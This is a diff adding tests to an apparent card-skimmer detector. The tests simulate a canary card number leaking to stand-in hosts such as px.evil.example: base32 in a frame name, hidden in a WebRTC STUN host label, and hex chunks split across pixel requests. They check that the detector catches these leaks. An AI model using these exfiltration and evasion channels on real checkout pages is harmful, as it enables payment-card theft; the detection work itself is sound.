@@ -191,6 +191,21 @@ def test_postmessage_to_an_untrusted_frame_and_storage() -> None:
     assert storage.severity is Severity.MEDIUM and storage.evidence["encoding"] == "base64"
 
 
+def test_a_frame_name_carried_to_another_origin() -> None:
+    carried = base64.b32encode(CARD.encode()).decode()
+    events = (
+        InstrumentEvent("sink", {"sink": "window-name", "origin": "https://drop.evil.example"},
+                        frame="https://drop.evil.example/blank.html", data=carried),
+        InstrumentEvent("sink", {"sink": "window-name", "origin": "https://js.stripe.com"},
+                        frame="https://js.stripe.com/v3/inner.html", data=CARD),
+        InstrumentEvent("sink", {"sink": "window-name", "origin": "https://other.example"},
+                        frame="https://other.example/f.html", data="__privateFrame0"),
+    )
+    [f], _ = findings_for(instrumentation=events)
+    assert f.rule == "canary-to-frame" and f.evidence["destination"] == "drop.evil.example"
+    assert f.evidence["encoding"] == "base32" and "name of a frame" in f.message
+
+
 def test_code_loaded_only_after_typing() -> None:
     r = request("https://cdn.evil.example/stage2.js", None, method="GET", resource="script")
     found, _ = findings_for(r)
@@ -295,6 +310,50 @@ def test_resource_hints_are_searched_as_requests_that_never_happened() -> None:
     assert f.evidence["channel"] == "host name (link-hint)" and f.script == "s1"
     assert f.evidence["quarantined"] is True
     assert [r.carries_canary for r in marked if r.resource_type == "link-hint"] == [True, False]
+
+
+def test_webrtc_servers_and_data_channels_are_searched_as_sends() -> None:
+    label = base64.b32encode(CARD.encode()[:31]).decode().rstrip("=").lower()
+    stun = InstrumentEvent("sink", {"sink": "webrtc", "url": f"stun://0{label}.relay.example:3478"},
+                           script="s1")
+    peer = InstrumentEvent("sink", {"sink": "webrtc", "url": "turn://turn.peer.example:443"},
+                           script="s2")
+    data = InstrumentEvent("sink", {"sink": "webrtc-data", "url": "turn://turn.peer.example:443"},
+                           script="s2", data=base64.b64encode(CARD.encode()).decode())
+    found, marked = findings_for(instrumentation=(stun, peer, data))
+    got = sorted((f.script, f.evidence["host"], f.evidence["encoding"]) for f in found)
+    assert got == [("s1", "relay.example", "base32"), ("s2", "turn.peer.example", "base64")]
+    assert [(r.method, r.carries_canary) for r in marked if r.resource_type == "webrtc"] == [
+        ("GET", True), ("GET", False), ("SEND", True)]
+
+
+def _chunks(text: str, size: int) -> list[str]:
+    return [text[i:i + size] for i in range(0, len(text), size)]
+
+
+def test_a_card_cut_into_pieces_over_requests_is_joined() -> None:
+    hexed = CARD.encode().hex()
+    pieces = [request(f"https://px.evil.example/p.gif?s=ab12&i={n}&v={part}", None,
+                      method="GET", resource="image")
+              for n, part in enumerate(_chunks(hexed, 24))]
+    [f], marked = findings_for(*pieces)
+    assert f.evidence["host"] == "px.evil.example" and f.severity is Severity.CRITICAL
+    assert "split over" in f.evidence["where"] and "'v'" in f.evidence["where"]
+    assert marked[0].carries_canary and not any(r.carries_canary for r in marked[1:])
+    bodies = [request("https://px.evil.example/c", part) for part in _chunks(CARD, 7)]
+    [f], _ = findings_for(*bodies)
+    assert "body, joined" in f.evidence["where"]
+
+
+def test_pieces_to_different_addresses_or_senders_are_not_joined() -> None:
+    hexed = CARD.encode().hex()
+    parts = _chunks(hexed, 24)
+    apart = [request(f"https://px{n}.evil.example/p.gif?v={part}", None, method="GET")
+             for n, part in enumerate(parts)]
+    assert findings_for(*apart)[0] == []
+    senders = [request(f"https://px.evil.example/p.gif?v={part}", None, method="GET",
+                       script=f"s{n + 1}") for n, part in enumerate(parts)]
+    assert findings_for(*senders)[0] == []
 
 
 def test_an_ordinary_host_with_digits_is_not_the_card() -> None:
